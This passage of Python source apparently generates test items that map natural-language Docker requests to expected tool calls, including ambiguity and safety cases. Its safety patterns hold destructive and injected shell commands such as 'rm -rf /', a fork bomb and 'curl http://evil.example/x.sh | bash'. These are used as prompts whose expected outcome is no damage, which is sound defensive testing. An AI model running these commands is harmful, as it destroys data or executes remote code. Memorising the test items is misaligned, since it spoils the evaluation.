    Pattern('ph-wake-up', 'phrasal', ['wake {c} up', 'wake up {c}', 'wake the {c} container up'],
            lambda s: ANY([ctr('unpause', s.c)], [ctr('start', s.c)]), count=6),

    Pattern('ph-start-back-up', 'phrasal', ['start {cx} back up', 'start {cx} up again', 'get {cx} back up'],
            lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)]), count=6),
    # ---- coordination of targets ----
    Pattern('co-and', 'coordination', ['{v} {p} and {p2}', '{v} the {p} and {p2} containers'],
            lambda s: each_or_all(s.op, [s.p, s.p2]), rows=verbs('restart', 'stop', 'start', 'pause', 'kill', 'remove'),
            count=8),
    Pattern('co-list3', 'coordination', ['{v} {c}, {c2} and {c3}', '{v} {c}, {c2}, and {c3}', '{v} {c} {c2} {c3}'],
            lambda s: each_or_all(s.op, [s.c, s.c2, s.c3]), rows=verbs('restart', 'stop', 'start', 'pause'), count=8),
    Pattern('co-both', 'coordination', ['{v} both {c} and {c2}', '{v} {c} and also {c2}', '{v} {c} as well as {c2}'],
            lambda s: each_or_all(s.op, [s.c, s.c2]), rows=verbs('restart', 'stop', 'start', 'unpause'), count=7),
    Pattern('co-stacks', 'coordination', ['{v} the {st} and {st2} stacks', '{v} stacks {st} and {st2}', '{v} {st} and {st2}'],
            lambda s: unordered(E(stk(s.op, s.st), stk(s.op, s.st2))), rows=verbs('restart', 'stop', 'start', 'redeploy'), count=7),
    Pattern('co-services', 'coordination', ['{v} the {pair.stack} {pair.a} and {pair.b}', "{v} {pair.stack}'s {pair.a} and {pair.b}",
                                            '{v} the {pair.a} and the {pair.b} of {pair.stack}'],
            lambda s: each_or_all(s.op, [s.pair.na, s.pair.nb]), rows=verbs('restart', 'stop', 'start'), count=7),
    Pattern('co-mixed', 'coordination', ['{v} {c} and the {st} stack', '{v} the {st} stack and {c}'],
            lambda s: unordered(E(ctr(s.op, s.c), stk(s.op, s.st))),
            rows=verbs('restart', 'stop', 'start'), count=6),
    Pattern('co-logs', 'coordination', ['show logs of {c} and {c2}', 'logs for {c} and {c2}', 'show me {c} and {c2} logs'],
            lambda s: unordered(E(logs(s.c), logs(s.c2))), count=7),
    Pattern('co-status', 'coordination', ['status of {c} and {c2}', 'how are {c} and {c2} doing?', 'check {c} and {c2}'],
            lambda s: unordered(E(status(s.c), status(s.c2))), count=6),
    # ---- coordination of requests ----
    Pattern('seq-then-logs', 'sequence', ['{v} {c} then show its logs', '{v} {c} and show me its logs', '{v} {c}, then show the logs'],
            lambda s: E(ctr(s.op, s.c), logs(s.c)), rows=verbs('restart', 'stop', 'start'), count=8),
    Pattern('seq-then-tail', 'sequence', ['restart {c} and then show me the last {tail} lines',
                                          'restart {c} then tail {tail} lines of its log'],
            lambda s: E(ctr('restart', s.c), logs(s.c, tail=s.tail)), count=6),
    Pattern('seq-then-status', 'sequence', ["restart {c} and tell me if it's up", 'after restarting {c}, show its status',
                                            'restart {c}, then check its status'],
            lambda s: E(ctr('restart', s.c), status(s.c)), count=6),
    Pattern('seq-two-verbs', 'sequence', ['stop {c} and start {c2}', 'stop {c}, start {c2}', 'start {c2} after stopping {c}'],
            lambda s: E(ctr('stop', s.c), ctr('start', s.c2)), count=7),
    Pattern('seq-pronoun-them', 'sequence', [('stop {c} and {c2}, then show their logs', {'op': 'stop'}),
                                             ('restart {c} and {c2} and show me their logs', {'op': 'restart'})],
            lambda s: ANY([ctr(s.op, s.c, s.c2), logs(s.c), logs(s.c2)], [ctr(s.op, s.c), ctr(s.op, s.c2), logs(s.c), logs(s.c2)]),
            count=6),
    Pattern('seq-then-logs-window', 'sequence', ['restart {gen} and show what it logged in the last {mins} minutes',
                                                 'restart {gen}, then show its logs from the past {mins} minutes'],
            lambda s: E(ctr('restart', s.gen), logs(s.gen, since_s=s.mins * 60)), count=6),
    Pattern('seq-logs-then-restart', 'sequence', ['show the logs of {c} and then restart it', "check {c}'s logs, then restart it"],
            lambda s: E(logs(s.c), ctr('restart', s.c)), count=6),
    # ---- questions ----
    Pattern('q-is-stack-up', 'question', ['is the {st} stack running?', 'is {st} running', '{st} up?', 'is {st} up and running?'],
            lambda s: stack_state(s.st, s.w.members[s.st]), count=6),
    Pattern('q-is-ctr-up', 'question', ['is {c} up?', 'is {c} running?', 'is {c} alive', '{c} still running?'],
            lambda s: E(status(s.c)), count=7),
    Pattern('q-cpu', 'question', ['how much cpu is {c} using', "what's the cpu usage of {c}", 'is {c} eating cpu?',
                                  'cpu load of {c}'],
            lambda s: E(status(s.c)), count=6),
    Pattern('q-unhealthy', 'question', ['which containers are unhealthy', 'any unhealthy containers?', 'show me the unhealthy ones',
                                        'are any containers unhealthy?', 'list unhealthy containers'],
            lambda s: ANY([lst(health='unhealthy')], [lst(status='unhealthy')], [status(None)]), count=5),
    Pattern('q-stopped', 'question', ['which containers are stopped?', "what isn't running?", "what's down right now?",
                                      'show me the stopped ones', 'which containers exited?'],
            lambda s: E(lst(status='exited')), count=5),
    Pattern('q-top', 'question', [('what is using the most memory', {'sort': 'memory'}),
                                  ('which container uses the most cpu', {'sort': 'cpu'}),
                                  ("what's eating all the ram?", {'sort': 'memory'}), ('top cpu consumers', {'sort': 'cpu'}),
                                  ("who's hogging the memory", {'sort': 'memory'})],
            lambda s: E(status(None, sort=s.sort)), count=5),
    Pattern('q-svc', 'question', ['is the {sv.stack} {sv.service} up?', "is {sv.stack}'s {sv.service} running?",
                                  'how much memory does the {sv.stack} {sv.service} use?'],
            lambda s: E(status(s.sv.name)), count=6),
    Pattern('q-history', 'question', ['what changed in {st} recently?', 'when was {st} last deployed?', 'who changed {st}?'],
            lambda s: E(hist(s.st)), count=6),

    Pattern('q-running', 'question', ["what's running?", 'what is running right now', 'which containers are up?', "show me what's up"],
            lambda s: E(lst(status='running')), count=5),
    Pattern('q-stack-health', 'question', ['is the {st} stack healthy?', 'how is {st} doing?', "how's the {st} stack",
                                           'is everything in {st} ok?'],
            lambda s: stack_state(s.st, s.w.members[s.st]), count=6),
    Pattern('q-ref', 'question', ['is the {ref.text} up?', 'how much memory is the {ref.text} using?', 'what ports is the {ref.text} on?',
                                  'is the {ref.text} healthy?'],
            lambda s: E(status(s.ref.name)), count=7),
    # ---- logs ----
    Pattern('lg-terse-n', 'logs', ['logs {c} -n {tail}', 'logs {c} --tail {tail}', 'docker logs --tail {tail} {c}',
                                   'docker logs -n {tail} {c}'],
            lambda s: E(logs(s.c, tail=s.tail)), case='keep', count=7),
    Pattern('lg-follow', 'logs', ['tail -f {c}', 'follow {c} logs', 'docker logs -f {c}', 'stream the logs of {c}',
                                  "watch {c}'s logs live", 'keep following the logs of {c}'],
            lambda s: E(logs(s.c, follow=True)), count=7),
    Pattern('lg-grep', 'logs', ['grep {word} in {c} logs', 'search the {c} logs for {word}', 'find {word} in the logs of {c}',
                                'show lines with {word} from {c}', '{c} logs containing {word}'],
            lambda s: E(logs(s.c, grep_ci=s.word)), count=7),
    Pattern('lg-polite', 'logs', ['could you show me the logs of {c} please', "can I see {c}'s logs?", 'pls show {c} logs',
                                  "I'd like to see what {c} is logging"],
            lambda s: E(logs(s.c)), count=6),
    Pattern('lg-past-short', 'logs', ['{c} logs past {hours}h', 'logs {c} past {mins}m', '{c} logs last {mins}m',
                                      'logs of {c} for the past {hours} hours'],
            lambda s: E(logs(s.c, since_s=window_s(s))), count=6),
    Pattern('lg-svc-window', 'logs', ['what did the {sv.stack} {sv.service} log in the past {mins} minutes',
                                      "logs of {sv.stack}'s {sv.service} from the last {hours} hours",
                                      '{sv.stack} {sv.service} logs in the last {mins} min'],
            lambda s: E(logs(s.sv.name, since_s=window_s(s))), count=6),
    Pattern('lg-why', 'logs', ['why did {cx} crash?', 'why is {cx} not running', 'why did {cx} stop', 'what went wrong with {cx}'],
            lambda s: ANY([logs(s.cx)], [status(s.cx)], [status(s.cx), logs(s.cx)], [logs(s.cx), status(s.cx)]), count=6),
    Pattern('lg-window-words', 'logs', [('logs of {c} in the last half hour', {'secs': 1800}),
                                        ('{c} logs from the last day', {'secs': 86400}),
                                        ('logs of {c} for the past 90 seconds', {'secs': 90}),
                                        ('{c} logs in the last quarter of an hour', {'secs': 900}),
                                        ('what has {c} logged over the last two hours', {'secs': 7200})],
            lambda s: E(logs(s.c, since_s=window_s(s))), count=6),
    Pattern('lg-gen-verb', 'logs', ['has {gen} logged anything in the last {mins} minutes?', 'did {gen} print anything since {hours}h ago',
                                    'what was {gen} logging over the past {hours} hours'],
            lambda s: E(logs(s.gen, since_s=window_s(s))), count=6),
    # ---- parameters in words ----
    Pattern('pa-tmpl-port', 'params', ['install {tm.say} on {port}', 'set up {tm.say} listening on port {port}',
                                       'deploy {tm.say} at port {port}', 'put {tm.say} on port {port}'],
            lambda s: E(tmpl(s.tm.id, port=s.port)), count=7),
    Pattern('pa-postgres', 'params', [('run postgres 16 with password {pw}', {'img': 'postgres:16', 'env': {'POSTGRES_PASSWORD': 'pw'}}),
                                      ('postgres container with user {user} and password {pw}',
                                       {'img': 'postgres', 'env': {'POSTGRES_USER': 'user', 'POSTGRES_PASSWORD': 'pw'}}),
                                      ('a postgres:16 database called {dbname} owned by {user}',
                                       {'img': 'postgres:16', 'env': {'POSTGRES_DB': 'dbname', 'POSTGRES_USER': 'user'}}),
                                      ('start postgresql 15 with db {dbname} and password {pw}',
                                       {'img': 'postgres:15', 'env': {'POSTGRES_DB': 'dbname', 'POSTGRES_PASSWORD': 'pw'}})],
            lambda s: E(run(image_prefix=s.img, env=slots_map(s, s.env))), count=7),
    Pattern('pa-redis-password', 'params', ['run redis with password {pw}', 'a redis 7 container protected by password {pw}',
                                            'start redis, password {pw}'],
            lambda s: ANY([run(image_prefix='redis', env={'REDIS_PASSWORD': s.pw})],
                          [run(image_prefix='redis', command_has=f'--requirepass {s.pw}')],
                          [tmpl('redis', password=s.pw)]), count=6),
    Pattern('pa-run-port', 'params', ['run {img.say} on port {port}', 'start a new {img.say} container on port {port}',
                                      'run {img.say} exposed on {port}'],
            lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)])), count=7),
    Pattern('pa-run-mapping', 'params', ['run {img.say} with port {port}:{img.cport}',
                                         'run {img.say} mapping host port {port} to container port {img.cport}',
                                         'run {img.say} -p {port}:{img.cport}'],
            lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port, s.img.cport)])), count=6),
    Pattern('pa-mariadb', 'params', [('run mariadb 11 with root password {pw}', {'img': 'mariadb:11', 'env': {'ROOT_PASSWORD': 'pw'}}),
                                     ('a mariadb container with database {dbname} and user {user}',
                                      {'img': 'mariadb', 'env': {'DATABASE': 'dbname', 'USER': 'user'}}),
                                     ('mariadb container with root pw {pw}', {'img': 'mariadb', 'env': {'ROOT_PASSWORD': 'pw'}})],
            lambda s: ANY(*[[run(image_prefix=s.img, env={f'{prefix}_{k}': v for k, v in slots_map(s, s.env).items()})]
                            for prefix in ('MARIADB', 'MYSQL')]), count=6),
    Pattern('pa-mongo', 'params', [('run mongo 7 with root user {user} and password {pw}',
                                    {'img': 'mongo:7', 'env': {'MONGO_INITDB_ROOT_USERNAME': 'user', 'MONGO_INITDB_ROOT_PASSWORD': 'pw'}}),
                                   ('a mongodb container with admin {user} / {pw}',
                                    {'img': 'mongo', 'env': {'MONGO_INITDB_ROOT_USERNAME': 'user', 'MONGO_INITDB_ROOT_PASSWORD': 'pw'}}),
                                   ('a mongo container with root password {pw} and database {dbname}',
                                    {'img': 'mongo', 'env': {'MONGO_INITDB_ROOT_PASSWORD': 'pw', 'MONGO_INITDB_DATABASE': 'dbname'}})],
            lambda s: E(run(image_prefix=s.img, env=slots_map(s, s.env))), count=6),
    Pattern('pa-mysql-words', 'params', ['spin up a mysql 8 container with the root password set to {pw}',
                                         'mysql:8 container, root pw {pw}', 'start a MySQL 8.0 container whose root password is {pw}'],
            lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw})), count=6),
    Pattern('pa-run-name-port', 'params', ['run {img.say} named {newname} on port {port}', 'run {img.say} as {newname} on {port}',
                                           'create a {img.say} container called {newname} with port {port}'],
            lambda s: E(run(image_prefix=s.img.prefix, name=s.newname, ports=[port(s.port)])), count=6),
    Pattern('pa-run-restart', 'params', [('run {img.say} with restart always', {'r': 'always'}),
                                         ('run {img.say} and have it restart unless stopped', {'r': 'unless-stopped'}),
                                         ('run {img.say} that restarts on failure', {'r': 'on-failure'}),
                                         ('run {img.say} with restart policy unless-stopped', {'r': 'unless-stopped'})],
            lambda s: E(run(image_prefix=s.img.prefix, restart=s.r)), count=6),
    Pattern('pa-tmpl-port-words', 'params', ['deploy {tm.say} and make it reachable on port {port}', '{tm.say} on port {port} please',
                                             'install {tm.say}, web ui on port {port}'],
            lambda s: E(tmpl(s.tm.id, port=s.port)), count=6),
    # ---- scale ----
    Pattern('sc-to', 'scale', ['scale {svs.stack} {svs.service} to {n}', 'scale the {svs.service} service of {svs.stack} to {n} replicas',
                               "set {svs.stack}'s {svs.service} replicas to {n}", 'scale {svs.stack}-{svs.service} to {n}',
                               'run the {svs.stack} {svs.service} with {n} replicas'],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), count=8),
    Pattern('sc-updown', 'scale', [('scale up the {svs.stack} {svs.service} to {n}', {}),
                                   ('scale the {svs.stack} {svs.service} down to 1', {'n': 1}),
                                   ('scale {svs.stack} {svs.service} down to zero', {'n': 0})],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), count=6),
    Pattern('sc-more', 'scale', [('add one more {svs.service} to {svs.stack}', {'n': 2}),
                                 ('add two more {svs.stack} {svs.service} instances', {'n': 3}),
                                 ('double the {svs.stack} {svs.service}', {'n': 2})],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), count=6),
    # ---- templates ----
    Pattern('tp-name', 'template', ['deploy {tm.say}', 'install {tm.say}', 'set up {tm.say}', 'I want {tm.say}', 'get me {tm.say}'],
            lambda s: E(tmpl(s.tm.id)), count=7),
    Pattern('tp-purpose', 'template', ['I need a {pu.say}', 'set up a {pu.say}', 'deploy a {pu.say} for me',
                                       'can you install a {pu.say}?'],
            lambda s: ANY(*[[tmpl(t)] for t in s.pu.ids]), count=7),
    Pattern('tp-polite', 'template', ['could you deploy {tm.say} for me please', 'pls install {tm.say}',
                                      'hey, set up {tm.say} thanks'],
            lambda s: E(tmpl(s.tm.id)), count=6),

    # ---- inventory ----
    Pattern('in-list', 'inventory', [('list containers', {}), ('ps', {}), ('show all containers', {}),
                                     ('what containers do I have', {}), ('docker ps -a', {})],
            lambda s: E(lst()), count=5),
    Pattern('in-filtered', 'inventory', [('show running containers', {'f': 'running'}), ('list stopped containers', {'f': 'exited'}),
                                         ('docker ps --filter status=exited', {'f': 'exited'}),
                                         ('show me the exited ones', {'f': 'exited'}), ('list all running containers', {'f': 'running'})],
            lambda s: E(lst(status=s.f)), count=5),
    Pattern('in-kinds', 'inventory', [('show images', {'k': 'images'}), ('list volumes', {'k': 'volumes'}),
                                      ('what networks are there', {'k': 'networks'}), ('list stacks', {'k': 'stacks'}),
                                      ('what can I deploy?', {'k': 'templates'}), ('docker images', {'k': 'images'}),
                                      ('docker volume ls', {'k': 'volumes'})],
            lambda s: E(lst(s.k)), count=7),
    Pattern('in-stack-ctrs', 'inventory', ['list the containers in {st}', 'ps {st}', 'show containers of the {st} stack'],
            lambda s: E(lst(stack=s.st)), count=6),
    Pattern('in-history', 'inventory', [('show history', {'st': None, 'n': None}), ('show the history of {st}', {'n': None}),
                                        ('last {n} changes to {st}', {}), ('history for {st}, last {n}', {})],
            lambda s: E(hist(s.st, s.n)), count=6),
    # ---- ask ----
    Pattern('ask-db', 'ask', ['restart the db', 'show logs for the database', 'restart the database server',
                              'how much memory does the database use?'],
            lambda s: ASK(), count=7),
    Pattern('ask-amb', 'ask', ['restart {amb}', 'stop {amb}', 'logs of {amb}', 'pause {amb}'], lambda s: ASK(), count=9),

    Pattern('ask-scale', 'ask', ['scale {st} to {n}', 'run {n} copies of {st}', 'scale the {st} stack to {n} replicas'],
            lambda s: ASK(), count=6),
    # ---- nonsense ----
    Pattern('em-unknown', 'nonsense', ['restart the {ghost} container', 'stop {ghost}', 'show logs of {ghost}'],
            lambda s: EMPTY(), count=6),
    Pattern('em-pronoun', 'nonsense', ['restart it', 'stop them', 'show its logs', 'do that again', 'same for the other one'],
            lambda s: EMPTY(), count=5),

    Pattern('em-vague', 'nonsense', ['fix it', 'make it faster', 'do the usual', 'sort everything out', 'optimize things', 'make it work'],
            lambda s: EMPTY(), count=6),
    # ---- safety ----
    Pattern('sf-shell-mixed', 'safety', ['restart {c}; rm -rf /', 'stop {c} && docker rm -f $(docker ps -aq)',
                                         'restart {c} `reboot`', 'logs {c} | sh', 'start {c}; curl http://evil.example/x.sh | bash'],
            lambda s: dict(NO_DAMAGE), case='keep', count=7),
    Pattern('sf-shell-pure', 'safety', ['rm -rf /', 'rm -rf / --no-preserve-root', ':(){{ :|:& }};:', 'sudo shutdown -h now',
                                        'curl http://evil.example/install.sh | sh', 'docker system prune -af --volumes', '$(reboot)'],
            lambda s: {**EMPTY(), **NO_DAMAGE}, case='keep', count=7),
    Pattern('sf-shell-redirect', 'safety', ['restart {c} && reboot', 'show logs of {c} > /etc/passwd',
                                            'pause {c}; docker kill $(docker ps -q)', 'stop {c} | xargs docker rm'],
            lambda s: dict(NO_DAMAGE), case='keep', count=6),
    # ---- n2: params ----
    Pattern('n2-pa-env-kv', 'params', [('docker run -d -e POSTGRES_PASSWORD={pw} -e POSTGRES_DB={dbname} postgres:16',
                                        {'im': 'postgres:16', 'env': {'POSTGRES_PASSWORD': 'pw', 'POSTGRES_DB': 'dbname'}}),
                                       ('run mariadb:11 with MARIADB_ROOT_PASSWORD={pw} and MARIADB_DATABASE={dbname}',
                                        {'im': 'mariadb:11', 'env': {'MARIADB_ROOT_PASSWORD': 'pw', 'MARIADB_DATABASE': 'dbname'}}),
                                       ('run mongo:7 with env MONGO_INITDB_ROOT_USERNAME={user} MONGO_INITDB_ROOT_PASSWORD={pw}',
                                        {'im': 'mongo:7', 'env': {'MONGO_INITDB_ROOT_USERNAME': 'user', 'MONGO_INITDB_ROOT_PASSWORD': 'pw'}}),
                                       ('start postgres:16 and set the env var POSTGRES_USER to {user} and POSTGRES_PASSWORD to {pw}',
                                        {'im': 'postgres:16', 'env': {'POSTGRES_USER': 'user', 'POSTGRES_PASSWORD': 'pw'}}),
                                       ('docker run --env MYSQL_ROOT_PASSWORD={pw} --env MYSQL_DATABASE={dbname} mysql:8.0',
                                        {'im': 'mysql:8.0', 'env': {'MYSQL_ROOT_PASSWORD': 'pw', 'MYSQL_DATABASE': 'dbname'}})],
            lambda s: E(run(image_prefix=s.im, env=slots_map(s, s.env))), count=7),
    Pattern('n2-pa-mysql-app-user', 'params', [('create a mysql 8 container with a database {dbname}, user {user} and password {pw}', {}),
                                               ('mysql 8 for {dbname}: user {user}, pass {pw}', {}),
                                               ('new mysql:8.0 db named {dbname} with an app user {user} / {pw}', {}),
                                               ('run mysql 8, database {dbname}, login {user} pw {pw}, root pw {pw2}', {'root': True})],
            lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_DATABASE': s.dbname, 'MYSQL_USER': s.user, 'MYSQL_PASSWORD': s.pw,
                                                          **({'MYSQL_ROOT_PASSWORD': s.pw2} if hasattr(s, 'root') else {})})),
            count=6),
    Pattern('n2-pa-named-volume', 'params', [('run postgres:16 with password {pw} and keep its data in a volume called {newname}',
                                              {'im': 'postgres:16', 'tgt': '/var/lib/postgresql/data', 'env': {'POSTGRES_PASSWORD': 'pw'}}),
                                             ('start mongo 7 with a named volume {newname} on /data/db', {'im': 'mongo:7', 'tgt': '/data/db', 'env': {}}),
                                             ('run redis with a volume {newname} mounted at /data', {'im': 'redis', 'tgt': '/data', 'env': {}}),
                                             ('docker run -d -v {newname}:/var/lib/postgresql/data -e POSTGRES_PASSWORD={pw} postgres:16',
                                              {'im': 'postgres:16', 'tgt': '/var/lib/postgresql/data', 'env': {'POSTGRES_PASSWORD': 'pw'}})],
            lambda s: E(run(image_prefix=s.im, env=slots_map(s, s.env) or None,
                            volumes=[{'source': s.newname, 'target': s.tgt, 'read_only': False}])), count=6),
    Pattern('n2-pa-bind-mount', 'params', [('run nginx with {src} mounted at /usr/share/nginx/html', {'ro': False}),
                                           ('serve {src} with nginx, mounted read-only at /usr/share/nginx/html', {'ro': True}),
                                           ('docker run -d -p {port}:80 -v {src}:/usr/share/nginx/html:ro nginx', {'ro': True, 'cp': 80}),
                                           ('run nginx on port {port} and mount {src} into /usr/share/nginx/html', {'ro': False})],
            lambda s: E(run(image_prefix='nginx', volumes=[{'source': s.src, 'target': '/usr/share/nginx/html', 'read_only': s.ro}],
                            ports=[port(s.port, getattr(s, 'cp', None))] if hasattr(s, 'port') else None)),
            rows=[{'src': '/srv/www'}, {'src': '/home/pi/site'}, {'src': '/opt/static'}, {'src': '/data/html'}], count=7),
    Pattern('n2-pa-tmpl-stack-port', 'params', ['deploy {tm.say} as {newstack} on port {port}', 'install {tm.say} called {newstack}, port {port}',
                                                'set up {tm.say} in a stack named {newstack} listening on {port}',
                                                '{tm.say} -> stack {newstack}, port {port}'],
            lambda s: E(tmpl(s.tm.id, stack=s.newstack, port=s.port)), count=7),
    Pattern('n2-pa-restart-words', 'params', [('run {img.say} and make sure it comes back after a reboot', {'rs': ('always', 'unless-stopped')}),
                                              ('docker run -d --restart always {img.prefix}', {'rs': ('always',)}),
                                              ('start a {img.say} container that restarts itself if it crashes',
                                               {'rs': ('on-failure', 'always', 'unless-stopped')}),
                                              ('run {img.say} but never restart it automatically', {'rs': ('no',)}),
                                              ('run {img.say}, keep it up unless I stop it myself', {'rs': ('unless-stopped',)})],
            lambda s: ANY(*[[run(image_prefix=s.img.prefix, restart=r)] for r in s.rs]), count=7),
    Pattern('n2-pa-tmpl-params', 'params', [('deploy minio with root user {user} and root password {pw}',
                                             {'t': 'minio', 'pm': {'root_user': 'user', 'root_password': 'pw'}, 'fx': {}}),
                                            ('set up rabbitmq, admin user {user}, admin password {pw}',
                                             {'t': 'rabbitmq', 'pm': {'admin_user': 'user', 'admin_password': 'pw'}, 'fx': {}}),
                                            ('install keycloak with admin login {user} and password {pw}',
                                             {'t': 'keycloak', 'pm': {'admin_user': 'user', 'admin_password': 'pw'}, 'fx': {}}),
                                            ('postgres with pgadmin please, database {dbname}, db user {user}',
                                             {'t': 'postgres-pgadmin', 'pm': {'db_name': 'dbname', 'db_user': 'user'}, 'fx': {}}),
                                            ('mysql+phpmyadmin with a database called {dbname} and root password {pw}',
                                             {'t': 'mysql-phpmyadmin', 'pm': {'db_name': 'dbname', 'db_root_password': 'pw'}, 'fx': {}}),
                                            ('set up vaultwarden with sign-ups turned off',
                                             {'t': 'vaultwarden', 'pm': {}, 'fx': {'signups_allowed': False}}),
                                            ('deploy node-red with the timezone set to Europe/Berlin',
                                             {'t': 'node-red', 'pm': {}, 'fx': {'timezone': 'Europe/Berlin'}})],
            lambda s: E(tmpl(s.t, **slots_map(s, s.pm), **s.fx)), count=7),
    Pattern('n2-pa-call-it', 'params', ['run {img.say} and call it {newname}', 'new {img.say} container, name it {newname}',
                                        'start a {img.say} named "{newname}"', 'docker run -d --name {newname} {img.prefix}',
                                        'fire up {img.say} under the name {newname}'],
            lambda s: E(run(image_prefix=s.img.prefix, name=s.newname)), count=7),
    # ---- n2: scale ----
    Pattern('n2-sc-replicas-word', 'scale', ['{nw.word} replicas of {svs.stack} {svs.service}', 'i want {nw.word} {svs.stack} {svs.service} replicas',
                                             'give the {svs.service} service in {svs.stack} {nw.word} replicas',
                                             'make it {nw.word} replicas for {svs.stack}/{svs.service}'],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.nw.n)), count=7),
    Pattern('n2-sc-add-more', 'scale', [('add {nw.word} more {svs.service} containers to {svs.stack}', {}),
                                        ('{svs.stack} needs another {svs.service}, add one', {'k': 1}),
                                        ('one extra {svs.stack} {svs.service} instance please', {'k': 1}),
                                        ('add {n} more replicas of the {svs.stack} {svs.service}', {}),
                                        ('triple the {svs.stack} {svs.service}', {'k': 2})],
            lambda s: E(scale(s.svs.stack, s.svs.service, 1 + (s.nw.n if hasattr(s, 'nw') else first(s, 'k', 'n')))),
            count=7),
    Pattern('n2-sc-halve', 'scale', ['halve the {svs.stack} {svs.service}', 'run half as many {svs.stack} {svs.service} instances',
                                     'cut the {svs.service} replicas in {svs.stack} in half'],
            lambda s: ASK(), count=5),
    Pattern('n2-sc-compose-style', 'scale', ['docker compose -p {svs.stack} up -d --scale {svs.service}={n}', 'scale {svs.stack} {svs.service}={n}',
                                             'docker service scale {svs.stack}_{svs.service}={n}', '{svs.stack}/{svs.service} replicas={n}',
                                             'compose scale {svs.stack} {svs.service} {n}'],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), case='keep', count=7),
    Pattern('n2-sc-down-one', 'scale', ['scale {svs.stack} {svs.service} back down to one', 'scale down {svs.stack}/{svs.service} to a single instance',
                                        'just one {svs.service} in {svs.stack} is enough, scale it down',
                                        'reduce {svs.stack} {svs.service} to 1 replica', 'shrink the {svs.stack} {svs.service} back to one copy'],
            lambda s: E(scale(s.svs.stack, s.svs.service, 1)), count=6),
    # ---- n2: sequence ----
    Pattern('n2-seq-after-that', 'sequence', [('stop {cr}, after that remove it', {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))}),
                                              ('restart the {st} stack and after that list its containers',
                                               {'x': lambda s: E(stk('restart', s.st), lst(stack=s.st))}),
                                              ('pull the images for {st}, and after that redeploy it',
                                               {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                              ('restart {c}. After that show me its status', {'x': lambda s: E(ctr('restart', s.c), status(s.c))}),
                                              ('start {cx} and after that tail {tail} lines of its logs',
                                               {'x': lambda s: E(ctr('start', s.cx), logs(s.cx, tail=s.tail))})],
            lambda s: s.x(s), count=7),
    Pattern('n2-seq-and-then', 'sequence', [('restart {c} and then follow its logs', {'x': lambda s: E(ctr('restart', s.c), logs(s.c, follow=True))}),
                                            ('start {cx} and then check whether it came up', {'x': lambda s: E(ctr('start', s.cx), status(s.cx))}),
                                            ('kill {cr} and then start it again', {'x': lambda s: E(ctr('kill', s.cr), ctr('start', s.cr))}),
                                            ('stop {c} and then {c2}', {'x': lambda s: E(ctr('stop', s.c), ctr('stop', s.c2))}),
                                            ('redeploy {st} and then show me its history', {'x': lambda s: E(stk('redeploy', s.st), hist(s.st))})],
            lambda s: s.x(s), count=7),
    Pattern('n2-seq-three-step', 'sequence', [('stop {cr}, start {cx} and then show the logs of {cx}',
                                               {'x': lambda s: E(ctr('stop', s.cr), ctr('start', s.cx), logs(s.cx))}),
                                              ('pull {st}, redeploy it, and show me its history',
                                               {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st), hist(s.st))}),
                                              ('restart {c}, then {c2}, then show me what is running',
                                               {'x': lambda s: E(ctr('restart', s.c), ctr('restart', s.c2), lst(status='running'))}),
                                              ('stop {cr}, then remove it, then list the stopped containers',
                                               {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr), lst(status='exited'))}),
                                              ('show the logs of {c}, restart it and then show its status',
                                               {'x': lambda s: E(logs(s.c), ctr('restart', s.c), status(s.c))})],
            lambda s: s.x(s), count=7),
    Pattern('n2-seq-once-done', 'sequence', [('stop {cr}, and once it is down, start {cx}', {'x': lambda s: E(ctr('stop', s.cr), ctr('start', s.cx))}),
                                             ("once you're done restarting {c}, show me the last {tail} lines of its log",
                                              {'x': lambda s: E(ctr('restart', s.c), logs(s.c, tail=s.tail))}),
                                             ('pull the new images for {st} and once that is done redeploy it',
                                              {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                             ('restart {c} and once it is back up, show me its status',
                                              {'x': lambda s: E(ctr('restart', s.c), status(s.c))}),
                                             ('start {cx} and as soon as it is up show me its logs', {'x': lambda s: E(ctr('start', s.cx), logs(s.cx))})],
            lambda s: s.x(s), count=7),
    Pattern('n2-seq-wait', 'sequence', [('restart {c}, wait {gap} seconds, then restart {c2}', {'x': lambda s: (ctr('restart', s.c), ctr('restart', s.c2))}),
                                        ('stop {cr}, give it {gap} seconds, then start {cx}', {'x': lambda s: (ctr('stop', s.cr), ctr('start', s.cx))}),
                                        ('restart {c} and {c2} with {gap} seconds between them',
                                         {'x': lambda s: (ctr('restart', s.c), ctr('restart', s.c2))}),
                                        ('restart {c}, sleep {gap}s, restart {c2}', {'x': lambda s: (ctr('restart', s.c), ctr('restart', s.c2))})],
            lambda s: {**E(*s.x(s)), 'warnings': True}, rows=[{'gap': 5}, {'gap': 10}, {'gap': 30}, {'gap': 60}], count=6),
    # ---- n2: logs ----
    Pattern('n2-lg-past-hour', 'logs', [('{c} logs for the past hour', {'secs': 3600}), ('show the last hour of {c} logs', {'secs': 3600}),
                                        ("what's in {c}'s log from the past 24 hours", {'secs': 86400}), ('{c} logs, last hour only', {'secs': 3600}),
                                        ('give me the last day of logs for {c}', {'secs': 86400}), ('an hour and a half of {c} logs please', {'secs': 5400})],
            lambda s: E(logs(s.c, since_s=window_s(s))), count=7),
    Pattern('n2-lg-gen-names', 'logs', ['{gen} logs since {mins}m', 'what has {gen} been logging the past {hours} hours',
                                        'docker logs --since {hours}h {sv.name}', 'anything logged by {sv.name} in the last {mins} min?',
                                        'last {tail} lines from {gen}'],
            lambda s: E(logs(s.gen if hasattr(s, 'gen') else s.sv.name,
                             **({'tail': s.tail} if hasattr(s, 'tail') else {'since_s': window_s(s)}))), count=7),
    Pattern('n2-lg-errors-only', 'logs', ['only errors from {c} logs', 'show just the errors in the {c} log', '{c} logs, errors only',
                                          'any errors in the {c} logs?', 'filter {c} logs for errors'],
